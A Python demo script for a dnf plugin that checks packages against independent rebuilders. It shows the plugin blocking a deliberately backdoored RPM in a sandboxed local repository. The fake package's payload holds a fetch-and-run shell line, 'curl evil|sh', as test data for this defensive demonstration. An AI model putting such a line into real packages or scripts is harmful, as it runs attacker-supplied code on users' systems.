"""The dnf part of ``make demo``: real ``dnf install --installroot`` with the plugin.

A repository on 127.0.0.1 serves two packages.  ``hello-dnf`` is what rb1,
rb2 and rb3 rebuilt.  ``tools`` was swapped for a backdoored build and the
repository metadata regenerated, so dnf's own checksum check is satisfied;
only the rebuilders know better.  The policy wants 2 of the 3.  dnf runs in
a throwaway installroot with its own configuration, cache and plugin
directories (tests/dnf_plugin/harness.py), so the host is not touched.
"""

from __future__ import annotations

import shlex
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.dnf_plugin.harness import DnfResult, DnfSandbox, rpm_requests  # noqa: E402
from tests.support.packages import build_rpm, make_rpm_repo  # noqa: E402
from tests.support.policy import write_policy  # noqa: E402
from tests.support.rebuilders import make_rebuilders  # noqa: E402
from tests.support.server import RebuilderServer  # noqa: E402

BOLD, RESET = ("\033[1m", "\033[0m") if sys.stdout.isatty() else ("", "")


def _say(text: str) -> None:
    print(f"\n{BOLD}== dnf: {text}{RESET}", flush=True)


def _show(result: DnfResult, box: DnfSandbox) -> None:
    """The command as an admin would type it (sandbox options elided), then dnf's output."""
    visible = [a for a in result.args if not a.startswith(("--setopt=", "-c", "--releasever"))
               and a != str(box.conf)]
    print("$ " + " ".join(shlex.quote(a) for a in visible) + "   (+ sandbox --setopt options)")
    for line in result.output.splitlines():
        print(f"  {line}")
    print(f"  (exit status {result.returncode})", flush=True)


def run(workdir: Path) -> None:
    """Build, serve, and run the two installs; raise if either outcome is wrong."""
    workdir.mkdir(parents=True, exist_ok=True)
    servers: list[RebuilderServer] = []

    def serve(root: Path) -> RebuilderServer:
        servers.append(RebuilderServer(root).start())
        return servers[-1]

    try:
        hello = build_rpm(workdir / "built", "hello-dnf", "1.0", payload=b"hello from dnf\n")
        tools = build_rpm(workdir / "built", "tools", "2.1", payload=b"#!/bin/sh\necho tools\n")
        backdoored = build_rpm(workdir / "attacker", "tools", "2.1",
                               payload=b"#!/bin/sh\necho tools; curl evil|sh\n")
        rebuilders = make_rebuilders(workdir, 3, serve)
        for rb in rebuilders:
            rb.publish("hello-dnf", "1.0-1", {hello.name: hello.read_bytes()})
            rb.publish("tools", "2.1-1", {tools.name: tools.read_bytes()})
        repo = serve(make_rpm_repo(workdir / "repo", [hello, backdoored]))  # metadata matches the backdoor
        policy = write_policy(workdir / "policy.toml", [rb.entry() for rb in rebuilders], threshold=2,
                              fetch={"deadline": 5.0})
        box = DnfSandbox(workdir / "dnf", {"updates": f"{repo.url}/"}, policy)

        _say("plugin configuration (rebuildgate.conf)")
        print((box.pluginconf / "rebuildgate.conf").read_text().rstrip())

        _say("install hello-dnf: rb1, rb2 and rb3 attest the repository's file")
        accepted = box.run("install", "hello-dnf")
        _show(accepted, box)

        _say("install tools: the repository's file is not what the rebuilders built")
        since = len(repo.requests)
        blocked = box.run("install", "tools")
        _show(blocked, box)
        downloads = [r for r in rpm_requests(repo.requests[since:]) if "tools" in r]
        installed = sorted(box.installed())
        print(f"  GET requests for tools-*.rpm at the repository: {len(downloads)}")
        print(f"  installed in the installroot: {', '.join(installed) or 'nothing'}")

        if accepted.returncode != 0 or installed != ["hello-dnf-1.0-1.noarch"]:
            raise RuntimeError(f"dnf demo: hello-dnf should have been installed\n{accepted}")
        if blocked.returncode != 1 or "rebuildgate blocked" not in blocked.stderr or downloads:
            raise RuntimeError(f"dnf demo: tools should have been blocked before download\n{blocked}")
    finally:
        for server in servers:
            server.stop()


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory(prefix="rebuildgate-dnf-demo-") as tmp:
        run(Path(tmp))
